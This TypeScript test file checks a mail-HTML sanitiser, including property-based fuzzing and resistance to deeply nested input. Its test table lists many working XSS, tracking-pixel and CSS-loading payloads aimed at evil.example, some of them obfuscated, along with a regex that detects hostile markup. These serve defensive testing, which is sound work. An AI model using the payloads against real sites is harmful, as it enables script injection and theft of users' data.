import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { cleanMailHtml } from '../../../src/doors/web/mail-html.ts';

const png = 'data:image/png;base64,iVBORw0KGgo=';
const clean = (html: string, pictures: [string, string][] = []) => cleanMailHtml(html, new Map(pictures));

describe('The HTML of a mail', () => {
  it('keeps text, tables, lists and their arrangement', () => {
    const html =
      '<h1>Title</h1><p style="text-align:center;color:#c00">A <strong>b</strong> <em>c</em><br /></p>' +
      '<table width="100%" cellpadding="4"><tr><td colspan="2" bgcolor="#eee">d</td></tr></table>' +
      '<ul><li>e</li></ul><blockquote>f</blockquote><font color="red" size="2">g</font>';
    assert.equal(clean(html), html);
  });

  const gone: Record<string, string> = {
    'a script': '<script>alert(1)</script>',
    'a script in capitals, unclosed': '<SCRIPT SRC=//evil.example/x.js>',
    'a script inside SVG': '<svg><script>alert(1)</script></svg>',
    'an SVG that runs when loaded': '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
    'MathML that hides a tag':
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    'a handler': '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    'a picture whose error runs': '<img src=x onerror=alert(1)>',
    'a picture from outside': '<img src="https://evil.example/pixel.gif">',
    'a picture from outside, without a scheme': '<img src="//evil.example/pixel.gif">',
    'a picture set':
      '<img srcset="https://evil.example/1.png 1x"><picture><source srcset="https://evil.example/2.png"></picture>',
    'a lazy background':
      '<table background="https://evil.example/b.png"><tr><td background="//evil.example/c.png">x</td></tr></table>',
    'a document in an address': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    'a frame': '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    'an object':
      '<object data="https://evil.example/x.swf"><embed src="https://evil.example/x.swf"></object>',
    'a style sheet':
      '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>',
    'a linked style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
    'a redirect': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    'a base': '<base href="https://evil.example/">',
    'a form':
      '<form action="https://evil.example"><input name="cpr"><button>Send</button><textarea></textarea></form>',
    'sound and film':
      '<audio src="https://evil.example/a.mp3"></audio><video poster="https://evil.example/p.png"></video>',
    'a style that loads': '<p style="background:url(https://evil.example/x)">x</p>',
    'a style that loads, escaped': String.raw`<p style="background-image:\75\72\6c(https://evil.example/x)">x</p>`,
    'a colour that loads': String.raw`<p style="color:u\rl(//evil.example)">x</p>`,
    'a border that loads': '<p style="border:1px solid url(https://evil.example/x)">x</p>',
    'a font that loads': '<p style="font-family:a;src:url(https://evil.example/f)">x</p>',
    'a style that runs in old browsers': '<p style="width:expression(alert(1));behavior:url(#x)">x</p>',
    'a style that covers the page': '<p style="position:fixed;top:0;left:0;width:100%;z-index:9">x</p>',
    'a link that runs': '<a href="javascript:alert(1)">x</a>',
    'a link that runs, in pieces':
      '<a href="jav&#x09;ascript:alert(1)">x</a><a href=" &#14; javascript:alert(1)">x</a>',
    'a link that runs, by entities': '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    'a link to a document of its own': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'a link to a file': '<a href="file:///etc/passwd">x</a><a href="vbscript:x">y</a><a href="blob:x">z</a>',
    'a link without a scheme': '<a href="//evil.example">x</a>',
    'a click that calls home': '<a href="https://ok.example" ping="https://evil.example/ping">x</a>',
    'a name that hides ours': '<p id="content" name="body" class="alert">x</p>',
    'a comment for old browsers': '<!--[if IE]><script>alert(1)</script><![endif]-->',
    'a comment that ends oddly': '<!--><img src=x onerror=alert(1)>-->',
    'an attribute that ends oddly':
      '<a href="https://ok.example" title="</a><img src=x onerror=alert(1)>">x</a>',
    'a tag within a tag': '<<script>script>alert(1)<</script>/script>',
    'a document type and a template':
      '<!doctype html><template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>',
  };
  const hostile =
    /<(script|svg|math|style|link|meta|base|form|input|button|textarea|iframe|object|embed|audio|video|source|template|noscript)\b|<[^>]*\son\w+=(?![^<]*&gt;)|javascript:|data:text|srcset|srcdoc|url\(|expression|position|evil\.example|\s(id|class|name|ping|background)=/i;
  for (const [what, html] of Object.entries(gone)) {
    it(`loses ${what}`, () => {
      const result = clean(`before ${html} after`);
      // Inside an attribute or as text, angle brackets are escaped: only tags that a browser sees are judged.
      const tags = result.match(/<[^>]*>/g)?.join('') ?? '';
      assert.doesNotMatch(tags.replaceAll(/title="[^"]*"/g, ''), hostile);
      assert.match(result, /^before/);
    });
  }

  it('opens links in a new window that knows nothing of ours', () => {
    assert.equal(
      clean('<a href="https://kommune.example/x?a=1&amp;b=2" target="_top" rel="opener">x</a>'),
      '<a href="https://kommune.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    assert.match(clean('<a href="mailto:a@example.dk">x</a><a href="tel:+4520123456">y</a>'), /mailto.*tel:/);
  });

  it('shows pictures that came with the mail, and the words of those that did not', () => {
    const pictures: [string, string][] = [['logo@x', png]];
    assert.equal(
      clean('<img src="cid:logo@x" width="20" alt="Logo">', pictures),
      `<img width="20" alt="Logo" src="${png}" />`,
    );
    assert.match(clean('<img src="CID:logo%40x">', pictures), /data:image\/png/);
    assert.equal(clean('<img src="cid:other" alt="Map">', pictures), '<img alt="Map" />');
    assert.equal(clean('<img src="cid:%E0%A4%A">', pictures), '<img alt="" />');
    assert.equal(clean('<img src="cid:__proto__">', pictures), '<img alt="" />');
  });

  it('shows raster pictures that are written into the mail, and no other kind of data', () => {
    assert.equal(clean(`<img alt="Logo" src="${png}">`), `<img alt="Logo" src="${png}" />`);
    for (const src of [
      'data:image/svg+xml;base64,AAAA',
      'data:text/html;base64,AAAA',
      'data:image/png,&lt;svg&gt;',
      'data:image/png;base64,AA"onerror=alert(1)',
    ]) {
      assert.equal(clean(`<img src='${src}'>`), '<img alt="" />', src);
    }
  });

  it('shows the words of a mail that is nested or marked up beyond reason, without working for minutes', () => {
    for (const html of [
      `Dear Ana ${'<b>'.repeat(1_000_000)}<script>alert(1)</script>`,
      `Dear Ana ${'<div>'.repeat(50_000)}deep${'</div>'.repeat(50_000)}<img src=x onerror=alert(1)>`,
      `Dear Ana ${'<i></i>'.repeat(500_000)}<script>alert(1)</script>`,
      `Dear Ana ${'<'.repeat(1_000_000)}script>alert(1)`,
    ]) {
      assert.match(clean(html), /^Dear Ana/);
      assert.doesNotMatch(clean(html), /</);
    }
    const deep = `${'<div>'.repeat(150)}deep${'</div>'.repeat(150)}`;
    assert.equal(clean(deep), deep);
    assert.match(clean(`<p style="${'color:red;'.repeat(1_000_000)}">words</p>`), /^<p>words/);
    assert.match(clean(`<p>${'word '.repeat(400_000)}</p>`), /word <\/p>$/);
  });

  it('lets nothing hostile through that is put together at random', () => {
    const piece = fc.constantFrom(
      ...['<', '>', '"', "'", '`', '/', '=', ' ', '\n', '\0', '&', ';', '<!--', '-->', '<![CDATA[', ']]>'],
      ...[
        'script',
        'img',
        'svg',
        'style',
        'math',
        'a',
        'title',
        'textarea',
        'noscript',
        'iframe',
        'p',
        'table',
      ],
      ...['onerror', 'onload', 'href', 'src', 'style', 'javascript:', 'cid:x', 'data:text/html,', 'alert(1)'],
      ...[
        '&#106;',
        '&lt;',
        '&quot;',
        '<img src=x onerror=alert(1)>',
        '<script>alert(1)</script>',
        'url(//evil)',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const result = clean(pieces.join(''), [['x', png]]);
        for (const [tag] of result.matchAll(/<[^>]*>/g)) {
          const bare = tag.replaceAll(/="[^"]*"/g, '=""');
          assert.doesNotMatch(
            bare,
            /<\/?(script|svg|style|math|iframe|noscript|textarea|title)\b|\son/i,
            result,
          );
          assert.doesNotMatch(tag, /\s(href|src)="\s*(javascript|data:text)/i, result);
        }
        assert.equal(clean(result).replaceAll(/<img[^>]*>/g, ''), result.replaceAll(/<img[^>]*>/g, ''));
      }),
      { numRuns: 2000 },
    );
  });
});
